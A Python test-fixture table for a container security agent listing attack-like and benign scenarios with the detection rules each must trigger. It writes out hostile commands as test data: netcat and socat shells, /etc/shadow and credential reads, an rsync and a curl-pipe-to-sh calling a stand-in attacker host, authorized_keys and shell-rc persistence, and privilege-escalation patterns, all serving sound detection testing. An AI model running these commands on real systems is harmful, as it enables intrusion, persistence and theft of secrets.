"""The scenario table: attack-like and benign workloads, and what they must raise.

Each scenario is data: a command (with placeholders), the rules of our default
ruleset it must raise, and the rules of Falco's upstream stable ruleset it should
raise. Commands run with the work directory as cwd and HOME, and with bin/ (fake
tools: nc, socat, apt-get, xmrig, httpd) first on PATH.

Placeholders: {py} this Python (PYTHON: at a path outside /tmp), {w} the workloads/ directory, {workdir}.
"""
from __future__ import annotations

import hashlib
import os
import shutil
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Tuple

HERE = Path(__file__).resolve().parent

_TEMP_ROOTS = ("/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/")


def _outside_temp(src: Path) -> Path:
    """Scripts run from a temporary directory (rightly) trip our "execution from a
    temporary directory" rule: when the checkout sits in one, as a CI clone may, run
    copies kept elsewhere, readable by the unprivileged scenario user too."""
    if not str(src).startswith(_TEMP_ROOTS):
        return src
    base = Path("/var/lib/workload-agent-tests")
    dest = base / hashlib.sha1(str(src).encode()).hexdigest()[:12] / src.name
    try:
        if dest.exists():
            shutil.rmtree(dest)
        shutil.copytree(src, dest)
        for d in (base, dest.parent, dest):
            os.chmod(d, 0o755)
    except OSError:
        return src
    return dest


def _python_outside_temp(executable: str = sys.executable) -> str:
    """This interpreter at a path outside the temporary directories: a checkout's venv
    under one would make every `$PYTHON script` of a workload trip the same rule. A venv
    is mirrored there (its pyvenv.cfg, its lib, the base interpreter), so the workload's
    Python has the same packages."""
    exe = Path(executable)
    if not str(exe).startswith(_TEMP_ROOTS):
        return str(exe)
    venv = exe.parent.parent
    if not (venv / "pyvenv.cfg").is_file():
        return str(exe.resolve())
    dest = Path("/var/lib/workload-agent-tests") / hashlib.sha1(str(venv).encode()).hexdigest()[:12] / "venv"
    try:
        if dest.exists():
            shutil.rmtree(dest)
        (dest / "bin").mkdir(parents=True)
        shutil.copy(venv / "pyvenv.cfg", dest / "pyvenv.cfg")
        (dest / "bin" / exe.name).symlink_to(exe.resolve())
        for lib in ("lib", "lib64"):
            if (venv / lib).is_dir():
                (dest / lib).symlink_to((venv / lib).resolve())
        for d in (dest.parent.parent, dest.parent, dest, dest / "bin"):
            os.chmod(d, 0o755)
    except OSError:
        return str(exe)
    return str(dest / "bin" / exe.name)


BIN_DIR = _outside_temp(HERE / "bin")
WORKLOADS_DIR = _outside_temp(HERE / "workloads")
PYTHON = _python_outside_temp()

#: The container context every scenario runs with (set explicitly: the tests do not
#: need to run in a container for container-only rules to apply).
CONTAINER_ID = "0badc0ffee42"
CONTAINER_IMAGE = "registry.example.com/scenario/app:1.0"

#: Priorities that a benign workload must never raise.
LOUD_PRIORITIES = ("Emergency", "Alert", "Critical", "Error", "Warning")

ATTACK_SCRIPT = "{w}/attack.py"
ATTACK = "{py} " + ATTACK_SCRIPT


@dataclass(frozen=True)
class Scenario:
    name: str
    command: Tuple[str, ...]
    #: rules of rules/ that must fire (empty for benign workloads)
    expect: Tuple[str, ...] = ()
    #: rules of the upstream falco_rules.yaml that must fire (run as root only: several
    #: upstream rules look at successful calls or at capabilities)
    upstream: Tuple[str, ...] = ()
    benign: bool = False
    #: also run the agent as an unprivileged user (the rule must fire on the attempt)
    nonroot: bool = True
    env: Tuple[Tuple[str, str], ...] = field(default=())
    #: programs that must be installed (the scenario is skipped otherwise)
    requires: Tuple[str, ...] = ()
    #: (field, text): an alert of the first expected rule has output_fields[field]
    #: containing text, so the alert is about the right thing
    fields: Tuple[Tuple[str, str], ...] = ()


def sh(script: str) -> Tuple[str, ...]:
    return ("sh", "-c", script)


def py(args: str) -> Tuple[str, ...]:
    return tuple(args.split())


SCENARIOS: Tuple[Scenario, ...] = (
    # --- process ----------------------------------------------------------------------
    # `docker exec -it`: the runtime (runc) starts a shell on a terminal
    Scenario("terminal-shell", sh(f'ln -s "$PYTHON" ./runc && ./runc {ATTACK_SCRIPT} pty-shell'),
             expect=("Shell with terminal in container",),
             fields=(("proc.name", "sh"), ("proc.pname", "runc")),
             upstream=("Terminal shell in container",)),
    Scenario("web-server-spawns-shell", ("httpd",),
             expect=("Shell spawned by web server",),
             fields=(("proc.name", "sh"), ("proc.pname", "httpd")),
             upstream=("Run shell untrusted",)),
    Scenario("package-manager", sh("apt-get install -y curl"),
             expect=("Package manager run in container",),
             fields=(("proc.cmdline", "apt-get install"),)),
    Scenario("drift-dropped-binary", sh("cp /bin/true ./dropped && ./dropped"),
             expect=("Drifted executable run in container",),
             fields=(("proc.exepath", "/dropped"),),
             upstream=("Drop and execute new binary in container",)),
    Scenario("fileless-memfd", py(f"{ATTACK} memfd-exec"),
             expect=("Fileless execution from memory",),
             fields=(("proc.exepath", "memfd:payload"),),
             upstream=("Fileless execution via memfd_create",)),
    Scenario("fileless-memfd-fexecve", py(f"{ATTACK} memfd-fexecve"),
             expect=("Fileless execution from memory",),
             fields=(("proc.exe", "payload"),),
             upstream=("Fileless execution via memfd_create",)),
    # a payload that is gone before anyone can look at /proc
    Scenario("fileless-memfd-short-lived", py(f"{ATTACK} memfd-exec /bin/true"),
             expect=("Fileless execution from memory",),
             fields=(("proc.exe", "payload"),),
             upstream=("Fileless execution via memfd_create",)),
    Scenario("exec-from-dev-shm",
             sh('f=/dev/shm/wa-scenario-$$; cp /bin/true "$f" && "$f"; rm -f "$f"'),
             expect=("Execution from temporary directory",),
             fields=(("proc.exepath", "/dev/shm/wa-scenario-"),),
             upstream=("Execution from /dev/shm",)),
    Scenario("netcat-exec", sh("nc -e /bin/sh 127.0.0.1 4444"),
             expect=("Netcat or socat command execution",),
             fields=(("proc.cmdline", "nc -e /bin/sh"),),
             upstream=("Netcat Remote Code Execution in Container",)),
    Scenario("socat-exec", ("socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh"),
             expect=("Netcat or socat command execution",),
             fields=(("proc.cmdline", "EXEC:/bin/sh"),)),
    Scenario("crypto-miner", ("xmrig", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet"),
             expect=("Crypto miner started",),
             fields=(("proc.cmdline", "stratum+tcp://"),)),
    Scenario("credential-search",
             sh('grep -rl "BEGIN RSA PRIVATE KEY" . ; find . -name id_rsa; '
                'grep -ri aws_secret_access_key . ; true'),
             expect=("Credential or private key search",),
             fields=(("proc.cmdline", "BEGIN RSA PRIVATE KEY"),),
             upstream=("Search Private Keys or Passwords", "Find AWS Credentials")),
    # --- files ------------------------------------------------------------------------
    Scenario("shadow-read", sh("cat /etc/shadow >/dev/null"),
             expect=("Read of password or sudoers file",),
             fields=(("fd.name", "/etc/shadow"), ("proc.name", "cat")),
             upstream=("Read sensitive file untrusted",)),
    Scenario("ssh-private-key-read",
             sh('mkdir -p .ssh && printf "key\\n" > .ssh/id_rsa && cat .ssh/id_rsa >/dev/null'),
             expect=("Read of SSH private key",),
             fields=(("fd.name", "/.ssh/id_rsa"),)),
    Scenario("cloud-credentials-read",
             sh('mkdir -p .aws && printf "[default]\\n" > .aws/credentials '
                '&& cat .aws/credentials >/dev/null'),
             expect=("Read of cloud credentials",),
             fields=(("fd.name", "/.aws/credentials"),)),
    Scenario("write-below-bin", py(f"{ATTACK} write-new /usr/local/bin"),
             expect=("Write below binary directory",),
             fields=(("fd.name", "/usr/local/bin/.wa-scenario-"),)),
    Scenario("write-below-etc", py(f"{ATTACK} write-new /etc"),
             expect=("File written below /etc",),
             fields=(("fd.name", "/etc/.wa-scenario-"),)),
    Scenario("log-clearing", py(f"{ATTACK} write-new /var/log truncate"),
             expect=("Log file cleared",),
             fields=(("fd.name", "/var/log/.wa-scenario-"),),
             upstream=("Clear Log Activities",)),
    Scenario("shell-history-tampering",
             sh('printf "ls\\n" > .bash_history; : > .bash_history; rm -f .bash_history; '
                'ln -s /dev/null .bash_history'),
             expect=("Shell history tampered",),
             fields=(("proc.cmdline", ".bash_history"),)),
    Scenario("links-to-sensitive-files",
             sh("ln -s /etc/shadow shadow-symlink; ln /etc/shadow shadow-hardlink; true"),
             expect=("Link to sensitive file created",),
             fields=(("evt.arg.target", "/etc/shadow"),),
             upstream=("Create Symlink Over Sensitive Files", "Create Hardlink Over Sensitive Files")),
    Scenario("cgroup-release-agent", py(f"{ATTACK} release-agent {{workdir}}"),
             expect=("Cgroup release_agent written",),
             fields=(("fd.name", "/release_agent"),),
             upstream=("Detect release_agent File Container Escapes",)),
    Scenario("setuid-bit", sh("cp /bin/true suidbin && chmod u+s suidbin"),
             expect=("Setuid or setgid bit set",),
             fields=(("evt.arg.mode", "S_ISUID"), ("proc.name", "chmod"))),
    # --- network ----------------------------------------------------------------------
    Scenario("reverse-shell", py(f"{ATTACK} reverse-shell"),
             expect=("Standard stream redirected to network socket",),
             fields=(("fd.name", "->127.0.0.1:"),),
             upstream=("Redirect STDOUT/STDIN to Network Connection in Container",)),
    Scenario("packet-socket", py(f"{ATTACK} packet-socket"),
             expect=("Raw or packet socket opened in container",),
             fields=(("evt.arg.domain", "AF_PACKET"),),
             upstream=("Packet socket created in container",)),
    # UDP connect() only records the destination: no packet leaves the machine.
    Scenario("cloud-metadata", py(f"{ATTACK} udp-connect 169.254.169.254 80"),
             expect=("Cloud metadata service contacted from container",),
             fields=(("fd.name", "->169.254.169.254:80"),)),
    Scenario("mining-pool-port", py(f"{ATTACK} udp-connect 198.51.100.7 3333"),
             expect=("Connection to crypto mining pool port",),
             fields=(("fd.sport", "3333"),)),
    # --- kernel, privileges, isolation ------------------------------------------------
    Scenario("ptrace-attach", py(f"{ATTACK} ptrace-attach"),
             expect=("Process attached with ptrace",),
             fields=(("evt.arg.request", "PTRACE_ATTACH"),),
             upstream=("PTRACE attached to process",)),
    Scenario("ptrace-traceme", py(f"{ATTACK} ptrace-traceme"),
             expect=("Anti-debugging with PTRACE_TRACEME",),
             upstream=("PTRACE anti-debug attempt",)),
    Scenario("kernel-module", py(f"{ATTACK} kernel-module"),
             expect=("Kernel module load attempted",),
             fields=(("evt.type", "init_module"),),
             upstream=("Linux Kernel Module Injection Detected",)),
    Scenario("unshare", py(f"{ATTACK} unshare"),
             expect=("Namespace changed in container",),
             fields=(("evt.type", "unshare"),)),
    Scenario("setns", py(f"{ATTACK} setns"),
             expect=("Namespace changed in container",),
             fields=(("evt.type", "setns"),)),
    Scenario("mount-host-disk", py(f"{ATTACK} mount {{workdir}}/mnt"),
             expect=("Mount attempted in container",),
             fields=(("evt.arg.dev", "/dev/wa-scenario-no-such-disk"),)),
    # --- issue #12: upstream coverage and beyond ---------------------------------------
    Scenario("web-server-runs-recon", ("gunicorn",),
             expect=("Suspicious program spawned by web server",),
             fields=(("proc.name", "id"), ("proc.pname", "gunicorn"))),
    # a database server (COPY ... FROM PROGRAM) running a command
    Scenario("database-spawns-shell",
             sh(f'ln -s "$PYTHON" ./postgres && ./postgres -c "import os; os.system(\'id\')"'),
             expect=("Database server spawned a program",),
             fields=(("proc.name", "sh"), ("proc.pname", "postgres"))),
    Scenario("shred", sh('printf secret > data && shred -u data'),
             expect=("Data destruction tool run",),
             fields=(("proc.name", "shred"),),
             upstream=("Remove Bulk Data from Disk",)),
    Scenario("shred-through-symlink",
             sh('printf secret > data && ln -s "$(command -v shred)" ./cleanup && ./cleanup -u data'),
             expect=("Data destruction tool run",),
             fields=(("proc.name", "cleanup"), ("proc.exepath", "/shred"))),
    Scenario("shred-by-interpreter",
             sh('printf secret > data && "$PYTHON" -c "import os, shutil; '
                'os.execv(shutil.which(\'shred\'), [\'cleanup\', \'-u\', \'data\'])"'),
             expect=("Data destruction tool run",),
             fields=(("proc.exe", "cleanup"), ("proc.exepath", "/shred"))),
    # a renamed copy is a new file: drift, not the name, catches it
    Scenario("shred-renamed-copy",
             sh('printf secret > data && cp "$(command -v shred)" ./cleanup && ./cleanup -u data'),
             expect=("Drifted executable run in container",),
             fields=(("proc.exepath", "/cleanup"),)),
    Scenario("debugfs", sh("debugfs -R stats /dev/sdzz9 </dev/null; true"),
             expect=("Raw filesystem debugger run in container", "Block or memory device opened in container"),
             fields=(("proc.name", "debugfs"),), requires=("debugfs",)),
    Scenario("debugfs-through-symlink",
             sh('ln -s "$(command -v debugfs)" ./fsck-helper && ./fsck-helper -R stats /dev/sdzz9 </dev/null; true'),
             expect=("Raw filesystem debugger run in container", "Block or memory device opened in container"),
             fields=(("proc.exepath", "debugfs"),), requires=("debugfs",)),
    Scenario("pwnkit-empty-argv", py(f"{ATTACK} pkexec-no-args {{workdir}}"),
             expect=("Privilege escalation exploit pattern",),
             fields=(("proc.exepath", "/pkexec"),)),
    Scenario("sudoedit-backslash",
             sh("ln -s /bin/true ./sudoedit && ./sudoedit -s 'x\\'"),
             expect=("Privilege escalation exploit pattern",),
             fields=(("proc.cmdline", "sudoedit -s"),)),
    Scenario("glibc-tunables",
             sh("GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true"),
             expect=("Privilege escalation exploit pattern",),
             fields=(("proc.cmdline", "true"),)),
    Scenario("ld-preload", sh("LD_PRELOAD=/nonexistent/libhook.so /bin/true 2>/dev/null"),
             expect=("Library preloaded into a program",),
             fields=(("proc.exepath", "/true"),)),
    Scenario("ld-so-preload", py(f"{ATTACK} open /etc/ld.so.preload append"),
             expect=("Dynamic linker preload file written",),
             fields=(("fd.name", "/etc/ld.so.preload"),)),
    Scenario("decode-and-execute", sh("echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh"),
             expect=("Encoded payload decoded",),
             fields=(("proc.cmdline", "base64 -d"),)),
    Scenario("decode-by-interpreter",
             ("{py}", "-c", "import base64, os; os.system(base64.b64decode('ZWNobyBkZWNvZGVk'))"),
             expect=("Encoded payload decoded",),
             fields=(("proc.cmdline", "b64decode"),)),
    Scenario("network-scanner", sh("ln -s /bin/true ./nmap && ./nmap -sS 10.0.0.0/24"),
             expect=("Network scanner or sniffer run",),
             fields=(("proc.name", "nmap"),)),
    Scenario("account-tool", sh("useradd --help >/dev/null; true"),
             expect=("Account management program run",),
             fields=(("proc.cmdline", "useradd --help"),), requires=("useradd",)),
    Scenario("account-tool-through-symlink",
             sh('ln -s "$(command -v useradd)" ./helper && ./helper --help >/dev/null; true'),
             expect=("Account management program run",),
             fields=(("proc.exepath", "/useradd"),), requires=("useradd",)),
    Scenario("kubectl", sh("ln -s /bin/true ./kubectl && ./kubectl get secrets -A"),
             expect=("Kubernetes client tool run in container",),
             fields=(("proc.cmdline", "kubectl get secrets"),)),
    Scenario("rsync-out", sh("ln -s /bin/true ./rsync && ./rsync -a . attacker@198.51.100.7:loot/"),
             expect=("Remote file copy tool run in container",),
             fields=(("proc.cmdline", "rsync -a"),)),
    Scenario("download-tool", sh("curl --version >/dev/null"),
             expect=("Download tool run in container",),
             fields=(("proc.cmdline", "curl --version"),), requires=("curl",)),
    Scenario("terminal-recon", sh(f'ln -s "$PYTHON" ./runc && ./runc {ATTACK_SCRIPT} pty-shell'),
             expect=("Reconnaissance command on a terminal",),
             fields=(("proc.cmdline", "id"),)),
    # runs as root: it is the step to nobody that makes it a system account's shell
    Scenario("system-account-shell",
             sh(f'setpriv --reuid=65534 --regid=65534 --clear-groups -- "$PYTHON" {ATTACK_SCRIPT} pty-shell'),
             expect=("Interactive shell by system account",),
             fields=(("user.name", "nobody"),), nonroot=False),
    Scenario("disk-device", py(f"{ATTACK} open /dev/sdzz9"),
             expect=("Block or memory device opened in container",),
             fields=(("fd.name", "/dev/sdzz9"),)),
    Scenario("cron-job", py(f"{ATTACK} write-new /etc/cron.d"),
             expect=("Cron job scheduled",),
             fields=(("fd.name", "/etc/cron.d/.wa-scenario-"),)),
    Scenario("crontab", sh("ln -s /bin/true ./crontab && echo '* * * * * id' | ./crontab -"),
             expect=("Cron job scheduled",),
             fields=(("proc.name", "crontab"),)),
    Scenario("authorized-keys",
             sh('mkdir -p .ssh && echo "ssh-ed25519 AAAA attacker" >> .ssh/authorized_keys'),
             expect=("SSH authorized_keys modified",),
             fields=(("fd.name", "/.ssh/authorized_keys"),)),
    Scenario("authorized-keys-renamed-into-place",
             sh('mkdir -p .ssh && echo "ssh-ed25519 AAAA attacker" > k && mv k .ssh/authorized_keys'),
             expect=("SSH authorized_keys modified",),
             fields=(("evt.type", "rename"),)),
    Scenario("shell-rc", sh("echo 'curl -s http://198.51.100.7/x | sh' >> .bashrc"),
             expect=("Shell startup file modified",),
             fields=(("fd.name", "/.bashrc"),)),
    Scenario("shell-rc-renamed-into-place", sh("echo 'id' > p && mv p .profile"),
             expect=("Shell startup file modified",),
             fields=(("evt.type", "rename"),)),
    Scenario("proc-self-exe-write", py(f"{ATTACK} open /proc/self/exe write"),
             expect=("Running executable opened for writing",),
             fields=(("fd.name", "/exe"),)),
    Scenario("file-below-dev", py(f"{ATTACK} write-new /dev"),
             expect=("File created below /dev",),
             fields=(("fd.name", "/dev/.wa-scenario-"),)),
    Scenario("host-path", sh("cat /host/etc/shadow 2>/dev/null; true"),
             expect=("Host filesystem path accessed from container",),
             fields=(("fd.name", "/host/etc/shadow"),)),
    Scenario("python-pth-hook",
             sh("mkdir -p lib/python3/site-packages && "
                "echo 'import os; os.system(\"id\")' > lib/python3/site-packages/zz-hook.pth"),
             expect=("Python startup hook written",),
             fields=(("fd.name", "site-packages/zz-hook.pth"),)),
    Scenario("python-sitecustomize-renamed-into-place",
             sh("echo 'import os' > s.py && mv s.py sitecustomize.py"),
             expect=("Python startup hook written",),
             fields=(("evt.type", "rename"),)),
    Scenario("timestomp-log", py(f"{ATTACK} timestomp /var/log"),
             expect=("File timestamps altered",),
             fields=(("evt.arg.path", "/var/log/.wa-scenario-"),)),
    Scenario("environ-read", sh("cat /proc/1/environ >/dev/null 2>&1; true"),
             expect=("Process environment read",),
             fields=(("fd.name", "/proc/1/environ"),)),
    Scenario("log-truncate-family", py(f"{ATTACK} log-tamper /var/log"),
             expect=("Log file cleared",),
             fields=(("evt.type", "truncate"),)),
    Scenario("bin-dir-family", py(f"{ATTACK} bin-dir-changes /usr/local/bin"),
             expect=("Write below binary directory",),
             fields=(("evt.type", "mkdir"),)),
    Scenario("process-vm-writev", py(f"{ATTACK} process-vm-write"),
             expect=("Memory of another process written",),
             fields=(("evt.type", "process_vm_writev"),)),
    Scenario("proc-pid-mem-write", py(f"{ATTACK} proc-mem-write"),
             expect=("Memory of another process written",),
             fields=(("fd.name", "/mem"),)),
    Scenario("pidfd-getfd", py(f"{ATTACK} pidfd-getfd"),
             expect=("Process attached with ptrace",),
             fields=(("evt.type", "pidfd_getfd"),)),
    Scenario("setuid-to-root", py(f"{ATTACK} setuid-root"),
             expect=("Unprivileged process switched to root",),
             fields=(("user.uid", "65534"),)),
    Scenario("userfaultfd", py(f"{ATTACK} userfaultfd"),
             expect=("Userfaultfd used by unprivileged process",),
             fields=(("user.uid", "65534"),)),
    Scenario("io-uring", py(f"{ATTACK} io-uring"),
             expect=("io_uring used in container",),
             fields=(("evt.type", "io_uring_setup"),)),
    Scenario("bpf-prog-load", py(f"{ATTACK} bpf-prog-load"),
             expect=("BPF program loaded",),
             fields=(("proc.cmdline", "bpf-prog-load"),)),
    Scenario("shell-dev-udp", ("bash", "-c", "exec 3<>/dev/udp/198.51.100.7/53"),
             expect=("Network connection by shell",),
             fields=(("fd.name", "198.51.100.7:53"),), requires=("bash",)),
    Scenario("ssh-non-standard-port",
             sh(f'ln -s "$PYTHON" ./ssh && ./ssh {ATTACK_SCRIPT} udp-connect 198.51.100.7 2222'),
             expect=("SSH client connected to a non-standard port",),
             fields=(("fd.sport", "2222"),)),
    Scenario("xz-backdoor-library",
             sh("printf x > liblzma.so.5.6.1 && cat liblzma.so.5.6.1 >/dev/null"),
             expect=("Backdoored xz library loaded",),
             fields=(("fd.name", "liblzma.so.5.6.1"),)),
    Scenario("write-below-lib", py(f"{ATTACK} write-new /usr/local/lib"),
             expect=("Write below system library directory",),
             fields=(("fd.name", "/usr/local/lib/.wa-scenario-"),)),
    Scenario("shadow-read-traversal",
             sh("cat ../../../../../../../../etc/shadow >/dev/null"),
             expect=("Read of password or sudoers file",),
             fields=(("fd.name", "/etc/shadow"),),
             upstream=("Read sensitive file untrusted",)),
    Scenario("language-package-install", sh("ln -s /bin/true ./pip3 && ./pip3 install requests"),
             expect=("Language package installed in container",),
             fields=(("proc.cmdline", "pip3 install"),)),
    Scenario("credential-search-through-symlink",
             sh('ln -s "$(command -v grep)" ./lookup && ./lookup -rl "BEGIN RSA PRIVATE KEY" . ; true'),
             expect=("Credential or private key search",),
             fields=(("proc.cmdline", "lookup -rl"),)),
    # windowed rules (rules/50-windowed.yaml, wa.rate.* fields)
    Scenario("port-scan", py(f"{ATTACK} port-scan 127.0.0.1 40"),
             expect=("Port scan from process",),
             fields=(("wa.rate.connect_ports", "20"),)),
    Scenario("mass-encryption", py(f"{ATTACK} mass-rename {{workdir}}/docs 30"),
             expect=("Mass file encryption pattern",),
             fields=(("wa.rate.suffix_renames", "20"),)),
    # --- benign workloads: nothing of WARNING or above --------------------------------
    Scenario("benign-http-server", py("{py} {w}/http_serve_fetch.py site"), benign=True),
    Scenario("benign-python-webapp", py("{py} {w}/webapp.py data"), benign=True),
    Scenario("benign-entrypoint", ("{w}/entrypoint.sh",), benign=True),
    Scenario("benign-c-build", ("{w}/build.sh",), benign=True, requires=("gcc",)),
    Scenario("benign-nginx", ("{w}/nginx_serve.sh",), benign=True, requires=("nginx",)),
    # issue #12's benign suite: real programs; the NOTICE alerts they raise are in
    # docs/default-rules.md ("Benign workloads")
    Scenario("benign-http-server-curl", ("{w}/http_server_curl.sh",), benign=True,
             requires=("curl",)),
    Scenario("benign-python-build-and-pip-install", ("{w}/python_package.sh",), benign=True),
    Scenario("benign-git", ("{w}/git_local.sh",), benign=True, requires=("git",)),
    Scenario("benign-postgresql", ("{w}/postgres.sh",), benign=True,
             requires=("/usr/lib/postgresql", "setpriv")),
)

BY_NAME = {s.name: s for s in SCENARIOS}
